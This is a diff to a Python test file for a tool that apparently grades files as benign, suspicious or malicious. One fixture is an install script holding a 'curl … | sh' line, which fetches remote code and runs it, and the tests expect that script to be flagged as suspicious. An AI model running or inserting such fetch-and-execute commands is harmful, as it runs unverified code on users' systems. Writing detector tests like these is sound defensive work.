@@ -100,8 +100,12 @@ def test_a_file_in_the_place_of_a_library_is_not_idle(tmp_path: Path) -> None:
 
 
 def test_an_idle_program_that_runs_others_is_still_flagged(tmp_path: Path) -> None:
-    grades = _grades(tmp_path, work_dot_py=RUNS, install_dot_sh=b"curl https://example.org/x | sh\n")
-    assert set(grades.values()) == {"suspicious"}
+    grades = _grades(tmp_path, work_dot_py=RUNS, install_dot_sh=b"curl https://example.org/x | sh\n", config_dot_json=b"{}")
+    assert grades == {"config.json": "benign", "install.sh": "suspicious", "work.py": "suspicious"}
+
+
+def test_where_nothing_but_programs_lies_the_question_is_about_them(tmp_path: Path) -> None:
+    assert _grades(tmp_path, work_dot_py=RUNS)["work.py"] == "malicious"
 
 
 def test_an_idle_program_that_runs_hidden_text_stays_malicious(tmp_path: Path) -> None:
